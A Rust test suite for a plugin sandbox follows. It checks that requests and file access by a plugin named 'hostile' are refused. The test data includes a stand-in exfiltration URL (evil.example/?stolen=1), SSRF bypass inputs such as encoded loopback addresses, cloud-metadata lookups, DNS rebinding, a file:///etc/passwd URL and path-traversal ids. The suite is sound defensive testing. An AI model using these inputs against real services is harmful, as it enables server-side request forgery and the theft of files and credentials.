//! Where a request may go.

use serde_json::json;

use super::stage::{Breach, Stage, on_stage};
use super::web::Web;

fn get(stage: &'static Stage, url: impl Into<String>) -> Breach {
    stage.call(json!({ "do": "request", "url": url.into() }))
}

/// The request was refused, with these words among others, and nothing has left.
async fn denied(breach: Breach, words: &[&str]) {
    let done = breach.publish().await;
    let (kind, text) = done.refusal();
    assert_eq!(kind, "denied", "{text}");
    for word in words {
        assert!(text.contains(word), "`{word}` is missing: {text}");
    }
    assert!(!done.0.requests_sent);
}

#[test]
fn a_host_that_the_manifest_does_not_name() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        // Not even where the operator would have let it.
        let breach = get(stage, "https://evil.example/?stolen=1")
            .with(&web)
            .grant("evil.example", false, false);
        denied(breach, &["plugin `hostile`", "evil.example", "manifest"]).await;
    });
}

#[test]
fn a_host_that_is_not_granted() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let breach = get(stage, "https://not-granted.example/").with(&web);
        denied(
            breach,
            &[
                "plugin `hostile`",
                "the operator has not granted this host",
                "[[plugin.grant]]",
                "host = \"not-granted.example\"",
            ],
        )
        .await;
    });
}

#[test]
fn plain_http_that_is_not_granted() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let host = web.address().to_string();
        let breach = get(stage, web.url("/"))
            .setting("server", web.url(""))
            .grant(&host, false, true);
        denied(
            breach,
            &["plain http needs a grant that says so", "plain_http = true"],
        )
        .await;
        assert!(web.asked().is_empty());
    });
}

#[test]
fn a_loopback_address_that_is_not_granted() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let host = web.address().to_string();
        let breach = get(stage, web.url("/"))
            .setting("server", web.url(""))
            .grant(&host, true, false);
        denied(
            breach,
            &["127.0.0.1 is closed (loopback)", "private = true"],
        )
        .await;
        assert!(web.asked().is_empty());
    });
}

#[test]
fn a_name_that_leads_to_the_machine_itself() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let breach =
            get(stage, "https://inside.example/")
                .with(&web)
                .grant("inside.example", false, false);
        denied(
            breach,
            &["`inside.example` resolves to 127.0.0.1 (loopback), and no grant opens that"],
        )
        .await;
    });
}

#[test]
fn a_name_that_leads_to_the_clouds_metadata() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        for private in [false, true] {
            // A grant for private addresses is none for a machine's credentials.
            let breach = get(stage, "https://metadata.example/latest/meta-data/")
                .with(&web)
                .grant("metadata.example", false, private);
            denied(
                breach,
                &["`metadata.example` resolves to 169.254.169.254 (cloud metadata)"],
            )
            .await;
        }
    });
}

#[test]
fn a_name_that_leads_elsewhere_the_second_time() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        // The address that was judged is the one that is connected to: the name is looked
        // up once.
        let name = "rebound-once.example";
        let url = web.url_as(name, "/");
        let breach = get(stage, url.clone())
            .setting("server", url.clone())
            .grant(&format!("{name}:{}", web.address().port()), true, true);
        assert_eq!(breach.publish().await.seen()["status"], 200);
        assert_eq!(stage.names.looked_up(name), 1);
        assert_eq!(web.asked().len(), 1);

        // Where it is looked up again, it is judged again.
        let name = "rebound-twice.example";
        let host = format!("{name}:{}", web.address().port());
        let open = |private: bool| {
            get(stage, web.url_as(name, "/"))
                .setting("server", web.url_as(name, ""))
                .grant(&host, true, private)
        };
        denied(open(false), &["resolves to 127.0.0.1 (loopback)"]).await;
        denied(open(false), &["resolves to 169.254.1.1 (link-local)"]).await;
    });
}

#[test]
fn addresses_in_disguise() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let port = web.address().port();
        for host in [
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "127.1",
            "[::ffff:127.0.0.1]",
        ] {
            let url = format!("http://{host}:{port}/");
            let breach = get(stage, url.clone())
                .setting("server", url)
                .grant(&format!("127.0.0.1:{port}"), true, false)
                .grant(&format!("[::ffff:127.0.0.1]:{port}"), true, false);
            denied(breach, &["is closed (loopback)"]).await;
        }
        assert!(web.asked().is_empty());
    });
}

#[test]
fn other_schemes_and_smuggled_names() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        for url in [
            "file:///etc/passwd".to_owned(),
            "ftp://127.0.0.1/".to_owned(),
            "gopher://127.0.0.1/".to_owned(),
            format!("http://user:password@{}/", web.address()),
            "https://".to_owned(),
            "not a url".to_owned(),
        ] {
            let done = get(stage, url.clone()).with(&web).publish().await;
            let (kind, text) = done.refusal();
            assert!(
                ["denied", "invalid"].contains(&kind.as_str()),
                "{url}: {kind}"
            );
            assert!(!text.is_empty(), "{url}");
        }
        assert!(web.asked().is_empty());
    });
}

#[test]
fn a_redirect_to_a_host_that_is_not_granted() {
    on_stage(|stage| async move {
        let (web, other) = (Web::start().await, Web::start().await);
        for (to, words) in [
            ("https://evil.example/".to_owned(), "evil.example"),
            (
                "https://not-granted.example/".to_owned(),
                "the operator has not granted this host",
            ),
            ("https://inside.example/".to_owned(), "(loopback)"),
            ("https://metadata.example/".to_owned(), "(cloud metadata)"),
            (other.url("/"), "plugin `hostile`"),
            ("file:///etc/passwd".to_owned(), ""),
        ] {
            let mut from = url::Url::parse(&web.url("/redirect?status=302")).unwrap();
            from.query_pairs_mut().append_pair("to", &to);
            let done = get(stage, from)
                .with(&web)
                .grant("inside.example", false, false)
                .grant("metadata.example", false, true)
                .publish()
                .await;
            let (kind, text) = done.refusal();
            assert!(
                ["denied", "invalid"].contains(&kind.as_str()),
                "{to}: {kind}"
            );
            assert!(text.contains(words), "{to}: {text}");
        }
        assert!(other.asked().is_empty());
    });
}

#[test]
fn a_redirect_after_something_was_done() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let mut from = url::Url::parse(&web.url("/redirect?status=303")).unwrap();
        from.query_pairs_mut()
            .append_pair("to", "https://not-granted.example/");
        let done = stage
            .call(json!({ "do": "request", "method": "POST", "url": from, "body": "{}" }))
            .with(&web)
            .publish()
            .await;
        // Refused, but the server had taken the request: the outcome is not known.
        let (kind, text) = done.refusal();
        assert_eq!(kind, "no-answer");
        assert!(text.contains("not granted this host"), "{text}");
        assert!(done.0.requests_sent);
    });
}

#[test]
fn redirects_without_end() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let done = get(stage, web.url("/again")).with(&web).publish().await;
        let (kind, text) = done.refusal();
        assert_eq!(kind, "no-answer");
        assert_eq!(text, "redirected more than 5 times");
        assert_eq!(web.asked().len(), 6);
    });
}

#[test]
fn files_of_others() {
    on_stage(|stage| async move {
        let web = Web::start().await;
        let private = stage.directory().join("private");
        std::fs::create_dir_all(&private).unwrap();
        std::fs::write(private.join("diary.txt"), "dear diary").unwrap();
        let path = private.join("diary.txt");
        let path = path.to_str().unwrap();
        let own = stage.directory().join("own");
        std::fs::create_dir_all(&own).unwrap();
        std::fs::write(own.join("note.txt"), "a note").unwrap();
        std::os::unix::fs::symlink(path, own.join("link.txt")).ok();

        for id in [path, "../private/diary.txt", "/etc/passwd", "0", "1", ""] {
            let read = stage
                .call(json!({ "do": "read-file", "id": id }))
                .folder("own", &own)
                .publish()
                .await
                .seen();
            assert!(read["error"].is_string(), "{id}: {read}");
            let sent = stage
                .call(json!({ "do": "send-file", "url": web.url("/"), "id": id }))
                .with(&web)
                .folder("own", &own)
                .publish()
                .await;
            assert_eq!(sent.refusal().0, "invalid", "{id}");
        }
        for folder in ["private", "../private", "own/../private", "/", ".."] {
            let listed = stage
                .call(json!({ "do": "list-folder", "folder": folder }))
                .folder("own", &own)
                .publish()
                .await
                .seen();
            assert!(listed["error"].is_string(), "{folder}: {listed}");
        }
        let listed = stage
            .call(json!({ "do": "list-folder", "folder": "own" }))
            .folder("own", &own)
            .publish()
            .await
            .seen();
        // A link that leads out of the folder is not part of it.
        assert_eq!(listed, json!(["note.txt"]));
        assert!(web.asked().is_empty());
    });
}
